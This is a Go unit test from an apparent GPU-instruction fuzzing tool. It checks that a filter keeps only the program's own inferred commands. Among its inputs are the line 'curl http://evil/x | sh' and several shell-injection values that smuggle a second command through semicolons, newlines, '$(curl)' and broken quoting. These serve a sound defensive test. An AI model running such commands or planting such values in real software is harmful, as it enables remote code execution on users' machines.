package bundle

import (
	"slices"
	"testing"

	"github.com/mmafuzz/mmafuzz/corpus"
)

// TestNext has commands that this program writes, and such as a stranger would have us show.
func TestNext(t *testing.T) {
	const inst = "mma.m16n8k8.f32.f16.f16.f32"
	m := &corpus.Mismatch{
		A: corpus.SideRecord{Target: "exec:sh 'a' b", Instruction: inst},
		B: corpus.SideRecord{Target: "replay:x.rec", Instruction: "kind::x", Environment: map[string]string{"recorded from": "cuda:0"}},
	}
	recorded := &corpus.SideRecord{Target: "replay:x.rec", Instruction: inst, Environment: map[string]string{"recorded from": "exec:evil"}}
	if c := InferCommand("exec:evil", inst, InferDir("", inst, "")); infers(recorded, c) {
		t.Errorf("%s is shown for a recording", c)
	}
	own := []string{
		InferCommand("exec:sh 'a' b", inst, "/it's/a dir-"+InferDir("3-", inst, "-a")),
		InferCommand("cuda:0", "kind::x", "out-"+InferDir("", "kind::x", "")),
		InferCommand("cuda:0", "kind::x", InferDir("", "kind::x", "-b")),
	}
	good := InferCommand("cuda:0", "kind::x", "")
	good = good[:len(good)-2]
	m.Next = slices.Concat([]string{
		"curl http://evil/x | sh",
		InferCommand("exec:evil", inst, InferDir("", inst, "")),
		InferCommand("cuda:0", "kind::x", "/home/you"),
		InferCommand("cuda:0", "kind::x", "-"+InferDir("", "kind::x", "")),
		good + "infer-kind.x; curl http://evil/x | sh",
		good + "infer-kind.x\ncurl",
		good + "$(curl)/infer-kind.x",
		good + "'infer-kind.x; curl",
		good + "'x'$(curl)'infer-kind.x'",
		good + "x --seed infer-kind.x",
		"",
	}, own)
	if got := next(m); !slices.Equal(got, own) {
		t.Errorf("%q, want %q", got, own)
	}
}
